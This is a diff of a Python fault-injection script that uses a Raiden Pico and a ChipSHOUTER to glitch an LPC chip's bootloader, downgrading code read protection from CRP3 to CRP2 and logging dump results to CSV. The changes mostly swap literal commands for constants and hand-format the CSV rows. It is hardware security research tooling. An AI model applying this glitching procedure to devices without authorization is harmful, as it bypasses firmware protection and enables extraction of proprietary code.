-        send_command(ser, "CS TRIGGER HW HIGH")
+        send_command(ser, CS_TRIGGER_HW_HIGH)
 
         # Check if CS is armed (should already be armed from initial setup)
         if debug:
             print("  [1.3] Checking CS armed status...", flush=True)
-        if not wait_for_cs_armed(ser, timeout=0.5):
+        if not check_cs_armed(ser) and not wait_for_cs_armed(ser, timeout=0.5):
             print("  ERROR: CS not armed! This should have been done in initial setup", flush=True)
             return "ERROR", "CS not armed", None
         else:
@@ -609,12 +653,12 @@ def test_crp3_to_crp2_glitch(ser, boot_voltage, boot_pause, boot_width, isp_volt
         # Arm the glitch trigger BEFORE TARGET SYNC
         if debug:
             print("  [1.5] Sending ARM ON (Pico trigger)...", flush=True)
-        send_command(ser, "ARM ON")
+        send_command(ser, ARM_ON)
 
         # Try to SYNC with bootloader (1 attempt)
         if debug:
             print("  [1.6] Sending TARGET SYNC (will reset target and trigger boot glitch)...", flush=True)
-        ser.write(b"TARGET SYNC 115200 12000 10 1\r\n")
+        ser.write(SYNC_CMD)
         success, response = wait_for_response(ser, "LPC ISP sync complete", timeout=5.0)
 
     # Return response snippet for logging
@@ -743,14 +787,15 @@ Timing reference (@ 150MHz PIO clock):
     # Connect to Raiden Pico
     print(f"Connecting to {SERIAL_PORT}...")
     ser = serial.Serial(SERIAL_PORT, BAUD_RATE, timeout=TIMEOUT)
+    set_latency_timer(ser)
     time.sleep(0.5)
 
     try:
         # Enable API mode
         print("Enabling API mode...")
-        ser.write(b"API ON\r\n")
+        ser.write(API_ON)
         time.sleep(0.2)
-        ser.read(ser.in_waiting)  # Clear response
+        ser.reset_input_buffer()  # Clear response
         print("✓ API mode enabled\n")
 
         # Initial setup
@@ -762,9 +807,9 @@ Timing reference (@ 150MHz PIO clock):
         time.sleep(0.5)  # Give Pico time to reset
 
         # Re-enable API mode after reset
-        ser.write(b"API ON\r\n")
+        ser.write(API_ON)
         time.sleep(0.2)
-        ser.read(ser.in_waiting)
+        ser.reset_input_buffer()
         print("✓ Pico reset complete")
 
         send_command(ser, "TARGET LPC")
@@ -783,7 +828,7 @@ Timing reference (@ 150MHz PIO clock):
         print("✓ ChipSHOUTER ready")
 
         print("Arming ChipSHOUTER...")
-        send_command(ser, "CS TRIGGER HW HIGH")
+        send_command(ser, CS_TRIGGER_HW_HIGH)
         send_command(ser, "CS ARM")
 
         # Wait for armed status by polling CS STATUS
@@ -843,9 +888,10 @@ Timing reference (@ 150MHz PIO clock):
         print()
 
         with open(csv_file, 'w', newline='', buffering=1) as f:
-            writer = csv.writer(f)
-            writer.writerow(['iteration', 'timestamp', 'boot_voltage', 'boot_pause', 'boot_width',
-                           'isp_voltage', 'isp_pause', 'isp_width', 'result', 'elapsed_time', 'uue_file', 'response'])
+            # Rows are formatted directly rather than through csv.writer; the
+            # file is line buffered, so each row reaches the OS at its newline
+            f.write("iteration,timestamp,boot_voltage,boot_pause,boot_width,"
+                    "isp_voltage,isp_pause,isp_width,result,elapsed_time,uue_file,response\r\n")
 
             for i, (test_boot_voltage, test_boot_pause, test_boot_width) in enumerate(param_combinations):
                 test_start = time.time()
@@ -862,9 +908,10 @@ Timing reference (@ 150MHz PIO clock):
                 # Log to CSV
                 ts = datetime.now().strftime('%Y-%m-%d %H:%M:%S')
                 uue_file_str = uue_file if uue_file else ""
-                writer.writerow([i+1, ts, test_boot_voltage, test_boot_pause, test_boot_width,
-                               isp_voltage, isp_pause, isp_width, result, f"{test_elapsed:.2f}", uue_file_str, response])
-                f.flush()
+                # response is free text, so it is always quoted (with quotes doubled)
+                response_escaped = response.replace('"', '""')
+                f.write(f'{i+1},{ts},{test_boot_voltage},{test_boot_pause},{test_boot_width},'
+                        f'{isp_voltage},{isp_pause},{isp_width},{result},{test_elapsed:.2f},{uue_file_str},"{response_escaped}"\r\n')
 
                 # Update counters
                 if result == "SUCCESS":
@@ -961,7 +1008,7 @@ Timing reference (@ 150MHz PIO clock):
 
     finally:
         # Disable API mode
-        ser.write(b"API OFF\r\n")
+        ser.write(API_OFF)
         time.sleep(0.2)
         ser.close()
 